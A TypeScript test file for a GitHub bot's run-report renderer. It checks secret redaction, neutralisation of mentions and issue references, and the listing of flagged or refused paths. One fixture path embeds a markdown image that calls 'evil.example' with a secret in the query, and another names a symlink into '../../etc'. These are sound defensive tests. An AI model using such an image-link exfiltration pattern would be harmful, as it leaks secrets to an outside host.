import { describe, expect, it } from 'vitest';
import type { RunReport } from '../../../jobs/run-ports.js';
import { initialRunState } from '../../../src/agent/run-state.js';
import { FLAGGED_CHANGES_HEADING } from '../../../src/github/ops/render-path-findings.js';
import { renderRunReport } from '../../../src/github/worker/render-run-report.js';
import { createRedactor } from '../../../src/security/redactor.js';

const options = {
  redact: createRedactor({ secrets: ['hunter2-secret-value'] }),
  draft: false,
  fromFork: false,
  number: 7,
  decisionTimeoutMinutes: 60,
  allowedHosts: ['github.com'],
};

function report(overrides: Partial<RunReport>): RunReport {
  return { outcome: 'pushed', runId: 'run-1', message: 'Done.', followUps: [], ...overrides };
}

describe('renderRunReport', () => {
  it('says a PR run pushed its commit, then gives the agent’s summary, neutralised and redacted', () => {
    const state = {
      ...initialRunState('run-1'),
      status: 'finished' as const,
      finishMessage: 'Renamed the parameters. Fixes #3, thanks @alice. hunter2-secret-value',
    };
    const text = renderRunReport(report({ state }), options);
    expect(text).toMatch(/^✅ I pushed 1 commit to this pull request \(#7\)\.\n\n\*\*Summary\*\*\n/);
    expect(text).toContain('Renamed the parameters.');
    // In code spans: no notification for @alice, and merging closes nothing.
    expect(text).toContain('Fixes `#3`, thanks `@alice`.');
    expect(text).not.toContain('hunter2-secret-value');
  });

  it('says only that it pushed when the agent left no summary', () => {
    expect(renderRunReport(report({}), options)).toBe('✅ I pushed 1 commit to this pull request (#7).');
  });

  it('lists the flagged changes of a push after the outcome, under the heading, each path as code', () => {
    const text = renderRunReport(
      report({
        flagged: [
          {
            path: '.github/openhands.yml',
            change: 'modified',
            rule: 'handsbot-config',
            reason: 'sets later runs',
          },
          {
            path: 'docs/![x](https://evil.example/?d=hunter2-secret-value)',
            change: 'added',
            rule: 'symlink-outside',
            reason: 'a link outside',
            detail: '../../etc',
          },
        ],
      }),
      options,
    );
    expect(text).toBe(
      [
        '✅ I pushed 1 commit to this pull request (#7).',
        FLAGGED_CHANGES_HEADING,
        'These files run code or set policy outside the change itself (in later handsbot runs, in CI, in an editor, a shell, on install or in git). Read them before merging.',
        '- `.github/openhands.yml` (modified): sets later runs\n- `docs/![x](https://evil.example/?d=<secret-hidden>)` (added): a link outside (`../../etc`)',
      ].join('\n\n'),
    );
  });

  it('a refused push names each refused path and why, instead of the bare failure message', () => {
    const text = renderRunReport(
      report({
        outcome: 'failed',
        failedStep: 'push',
        message: 'The changes touch a file that handsbot may not push (workflow), so nothing was pushed.',
        refused: [
          {
            path: '.github/workflows/ci.yml',
            change: 'deleted',
            rule: 'workflow',
            reason: 'runs with secrets',
          },
        ],
      }),
      options,
    );
    expect(text).toContain('nothing was pushed');
    expect(text).toContain('- `.github/workflows/ci.yml` (deleted): runs with secrets');
    expect(text).toContain('`allowWorkflowChanges: true`');
  });
});
